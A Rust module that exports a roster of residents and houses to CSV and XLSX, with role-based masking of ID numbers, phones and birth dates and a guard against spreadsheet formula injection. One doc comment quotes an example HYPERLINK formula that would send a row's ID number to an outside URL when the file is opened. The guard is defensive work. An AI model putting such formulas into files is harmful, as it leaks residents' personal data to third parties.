//! A grid's residents and houses written as a roster, with the headers an import reads.

use super::*;

/// How much personal data an export shows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Reveal {
    /// Full ID numbers, phones and birth dates: a file that can be imported again.
    Full,
    /// As lists show them: ID numbers and phones masked, birth year only. For reading, not
    /// for importing again.
    Masked,
}

impl Reveal {
    /// Who may export a grid's roster: the county administrator in full; township and county
    /// centre staff masked; grid and village roles not at all (their devices hold their grids).
    pub fn for_role(role: Role) -> Option<Reveal> {
        match role {
            Role::CountyAdmin => Some(Reveal::Full),
            Role::CountyStaff | Role::TownshipStaff => Some(Reveal::Masked),
            _ => None,
        }
    }
}

pub(super) enum Out {
    Text(String),
    Number(f64),
}

pub(super) fn export_value(target: Target, v: Option<&Value>, reveal: Reveal) -> Option<Out> {
    let v = v.filter(|v| !v.is_null())?;
    let labels = labels_of(target);
    Some(match (target, v) {
        (R("id_number"), Value::String(s)) if reveal == Reveal::Masked => Out::Text(validate::mask_id_number(s)),
        (R("phone"), Value::String(s)) if reveal == Reveal::Masked => Out::Text(validate::mask_phone(s)),
        (R("birth_date"), Value::String(s)) if reveal == Reveal::Masked => Out::Text(s.chars().take(4).collect()),
        (_, Value::Array(items)) => Out::Text(
            items.iter().filter_map(Value::as_str).map(|c| code_to_label(labels, c)).collect::<Vec<_>>().join("、"),
        ),
        (_, Value::String(s)) if !labels.is_empty() => Out::Text(code_to_label(labels, s)),
        (_, Value::String(s)) => Out::Text(s.clone()),
        (_, Value::Bool(b)) => Out::Text(if *b { "是" } else { "否" }.into()),
        (_, Value::Number(n)) => Out::Number(n.as_f64()?),
        _ => return None,
    })
}

/// The export's rows: each house's residents (household head first), a house nobody lives in
/// on a row of its own, then residents without a house.
pub(super) fn export_rows(residents: &[Resident], houses: &[House], reveal: Reveal) -> Vec<Vec<Option<Out>>> {
    let cols: Vec<&Column> = COLUMNS.iter().filter(|c| exported(c)).collect();
    let mut houses: Vec<&House> = houses.iter().collect();
    houses.sort_by_key(|h| (address_key(&h.to_fields()), h.id));
    let mut by_house: HashMap<Uuid, Vec<&Resident>> = HashMap::new();
    let known: HashSet<Uuid> = houses.iter().map(|h| h.id).collect();
    let mut homeless = Vec::new();
    for r in residents {
        match r.house_id.filter(|h| known.contains(h)) {
            Some(h) => by_house.entry(h).or_default().push(r),
            None => homeless.push(r),
        }
    }
    let relation_rank = |r: &Resident| {
        r.relation.as_deref().and_then(|x| schema::RELATIONS.iter().position(|y| *y == x)).unwrap_or(usize::MAX)
    };
    let row = |r: Option<&Resident>, h: Option<&House>| -> Vec<Option<Out>> {
        let rf = r.map(Record::to_fields).unwrap_or_default();
        let hf = h.map(Record::to_fields).unwrap_or_default();
        cols.iter()
            .map(|c| match c.target {
                R(f) => export_value(c.target, rf.get(f), reveal),
                H(f) => export_value(c.target, hf.get(f), reveal),
                Target::HouseCode => h.map(|h| h.id).or(r.and_then(|r| r.house_id)).map(|id| Out::Text(id.to_string())),
                Target::Address | Target::Serial => None,
            })
            .collect()
    };
    let mut out = Vec::new();
    for h in houses {
        match by_house.get_mut(&h.id) {
            Some(list) => {
                list.sort_by(|a, b| relation_rank(a).cmp(&relation_rank(b)).then(a.birth_date.cmp(&b.birth_date)));
                for r in list.iter() {
                    out.push(row(Some(r), Some(h)));
                }
            }
            None => out.push(row(None, Some(h))),
        }
    }
    homeless.sort_by(|a, b| a.name.cmp(&b.name).then(a.birth_date.cmp(&b.birth_date)));
    for r in homeless {
        out.push(row(Some(r), None));
    }
    out
}

pub(super) fn headers() -> Vec<&'static str> {
    COLUMNS.iter().filter(|c| exported(c)).map(|c| c.header).collect()
}

/// A text cell that a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, or a tab or carriage
/// return before one) is written with a leading apostrophe, which spreadsheets show as text: a
/// note such as `=HYPERLINK("http://…?"&B2, …)` must not send a row's ID number away when the
/// file is opened. (The xlsx export writes string cells, which are never formulas.)
pub(crate) fn neutralise_formula(s: &str) -> String {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
        _ => s.to_string(),
    }
}

/// CSV in UTF-8 with a BOM, so that Excel on Chinese Windows opens it with the right encoding.
pub fn export_csv(residents: &[Resident], houses: &[House], reveal: Reveal) -> Result<Vec<u8>, Error> {
    let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    let internal = |e: csv::Error| Error::internal(e);
    w.write_record(headers()).map_err(internal)?;
    for r in export_rows(residents, houses, reveal) {
        w.write_record(r.iter().map(|c| match c {
            Some(Out::Text(s)) => neutralise_formula(s),
            Some(Out::Number(f)) => fmt_number(*f),
            None => String::new(),
        }))
        .map_err(internal)?;
    }
    w.into_inner().map_err(Error::internal)
}

/// One worksheet, ID numbers and phones as text cells (a number cell would lose their digits).
pub fn export_xlsx(residents: &[Resident], houses: &[House], reveal: Reveal) -> Result<Vec<u8>, Error> {
    use rust_xlsxwriter::{Format as CellFormat, Workbook};
    let internal = |e: rust_xlsxwriter::XlsxError| Error::internal(e);
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    ws.set_name(SHEET_NAME).map_err(internal)?;
    let bold = CellFormat::new().set_bold();
    for (i, h) in headers().into_iter().enumerate() {
        ws.write_string_with_format(0, i as u16, h, &bold).map_err(internal)?;
        let width = match h {
            "公民身份号码" | "房屋编号" => 38.0,
            "备注" | "安全隐患" => 30.0,
            _ => 12.0,
        };
        ws.set_column_width(i as u16, width).map_err(internal)?;
    }
    for (ri, r) in export_rows(residents, houses, reveal).into_iter().enumerate() {
        let row = ri as u32 + 1;
        for (ci, cell) in r.into_iter().enumerate() {
            match cell {
                Some(Out::Text(s)) => ws.write_string(row, ci as u16, s).map(|_| ()),
                Some(Out::Number(f)) => ws.write_number(row, ci as u16, f).map(|_| ()),
                None => Ok(()),
            }
            .map_err(internal)?;
        }
    }
    ws.set_freeze_panes(1, 0).map_err(internal)?;
    wb.save_to_buffer().map_err(internal)
}
